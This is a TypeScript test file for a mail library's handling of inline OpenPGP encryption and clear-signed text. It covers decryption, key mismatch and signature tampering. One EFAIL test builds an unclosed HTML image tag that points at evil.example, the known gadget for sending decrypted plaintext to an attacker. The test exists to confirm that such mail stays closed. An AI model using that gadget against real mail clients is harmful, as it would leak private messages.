import * as openpgp from 'openpgp'
import { afterAll, describe, expect, it } from 'vitest'
import { bytesInMemory } from '../../../../src/message/byte-source.ts'
import { MimeScanner } from '../../../../src/message/mime-scanner.ts'
import { replaceParts } from '../../../../src/message/rewrite.ts'
import { inlineParts } from '../../../../src/protection/openpgp/inline-parts.ts'
import { openInlinePart } from '../../../../src/protection/openpgp/open-inline-part.ts'
import { openWorkspace } from '../../../../src/storage/spool.ts'
import { armoredKey } from '../../../support/openpgp-judges.ts'
import { encrypted, literalPackets, signedOn, signedPackets } from '../../../support/openpgp-messages.ts'
import { allOf } from '../../../support/smime-judges.ts'
import { temporaryFolder } from '../../../support/temporary-folder.ts'

const folder = temporaryFolder()
const workspace = openWorkspace(folder.path, { sizeLimit: 100e6 })
afterAll(async () => {
  await workspace[Symbol.asyncDispose]()
  folder[Symbol.dispose]()
})
const reader = {
  privateKeys: [armoredKey('dave-curve25519', 'sec')],
  verificationKeys: [armoredKey('carol-rsa3072', 'pub')],
}
const armored = async (message: Buffer) =>
  `-----BEGIN PGP MESSAGE-----\r\n\r\n${message.toString('base64').replace(/.{64}/g, '$&\r\n')}\r\n-----END PGP MESSAGE-----\r\n`
const clearSigned = await openpgp.sign({
  message: await openpgp.createCleartextMessage({ text: 'Grüße' }),
  signingKeys: await openpgp.readPrivateKey({ armoredKey: armoredKey('carol-rsa3072', 'sec') }),
  date: signedOn,
})
const secret = await armored(await encrypted(await signedPackets('Grüße\nCarol')))
const file = (await encrypted(await literalPackets('Zahlen'))).toString('base64')

const mail = (...parts: readonly string[]) =>
  Buffer.from(
    `Content-Type: multipart/mixed; boundary=b\r\n\r\n${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`,
  )
const text = (content: string) => `Content-Type: text/plain; charset=utf-8\r\n\r\n${content}`
const attached = `Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="Zahlen.xlsx.pgp"\r\n\r\n${file}`

/** The mail with all that was opened in its place, and what was found. */
async function opened(bytes: Buffer) {
  const source = bytesInMemory(bytes)
  const scanner = new MimeScanner()
  scanner.push(bytes)
  const tree = scanner.end()
  const replacements = new Map<string, ReturnType<typeof bytesInMemory>>()
  const found: (string | undefined)[][] = []
  for (const inline of await inlineParts(source, tree.root)) {
    const result = await openInlinePart(source, inline, reader, workspace, signedOn)
    if (result.kind === 'closed') {
      found.push([inline.kind, result.reason])
      continue
    }
    found.push([inline.kind, ...result.signatures.map(({ problem }) => problem)])
    if (result.replacement) replacements.set(inline.path, result.replacement)
  }
  return { found, text: (await allOf(replaceParts(source, tree, replacements))).toString() }
}

describe('texts and files that were encrypted by hand', () => {
  it('are opened in their places, and what was signed inside is known', async () => {
    const { found, text: result } = await opened(mail(text(secret), attached))
    expect(found).toEqual([['encrypted-text', undefined], ['encrypted-file']])
    expect(result).toContain('Gr=C3=BC=C3=9Fe\r\nCarol')
    expect(result).toMatch(/filename=Zahlen\.xlsx\r\n/)
    expect(result).toContain(Buffer.from('Zahlen').toString('base64'))
    expect(result).not.toContain('BEGIN PGP')
  })

  it('are opened when a mail is nothing else', async () => {
    const { found, text: result } = await opened(Buffer.from(text(secret)))
    expect(found).toEqual([['encrypted-text', undefined]])
    expect(result).toContain('Gr=C3=BC=C3=9Fe\r\nCarol')
  })

  it('stay as they are if they are for somebody else', async () => {
    const other = await openpgp.encrypt({
      message: await openpgp.createMessage({ text: 'x' }),
      encryptionKeys: await openpgp.readKey({ armoredKey: armoredKey('carol-rsa3072', 'pub') }),
      date: signedOn,
    })
    const bytes = mail(text(other))
    expect(await opened(bytes)).toEqual({ found: [['encrypted-text', 'no-key']], text: bytes.toString() })
  })

  it('EFAIL: stay closed beside HTML, beside other text, and below other protection', async () => {
    const html = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    for (const bytes of [
      mail(html, text(secret), attached),
      mail(`Content-Type: message/rfc822\r\n\r\n${text(secret)}`),
      mail(text('Hello')),
      mail(text(`Hello\r\n${secret}`)),
      mail(text(`${secret}\r\n-- \r\nsent by a list`)),
    ]) {
      expect(await opened(bytes)).toEqual({ found: [], text: bytes.toString() })
    }
  })
})

describe('texts that were signed by hand', () => {
  it('are left with what was signed', async () => {
    const { found, text: result } = await opened(mail(text(clearSigned)))
    expect(found).toEqual([['clear-signed-text', undefined]])
    expect(result).toContain('\r\n\r\nGr=C3=BC=C3=9Fe\r\n--b--')
  })

  it('are not taken for signed with other text around', async () => {
    const bytes = mail(text(`\r\n${clearSigned}\r\nPS: Zahlen Sie an Mallory`))
    expect(await opened(bytes)).toEqual({
      found: [['clear-signed-text', 'other-text']],
      text: bytes.toString(),
    })
  })

  it('are not taken for signed when they were changed', async () => {
    expect((await opened(mail(text(clearSigned.replace('Grüße', 'Gruß'))))).found).toEqual([
      ['clear-signed-text', 'altered'],
    ])
    expect((await opened(mail(text(clearSigned.replace('Hash:', 'Comment:'))))).found).toEqual([
      ['clear-signed-text', 'altered'],
    ])
  })
})
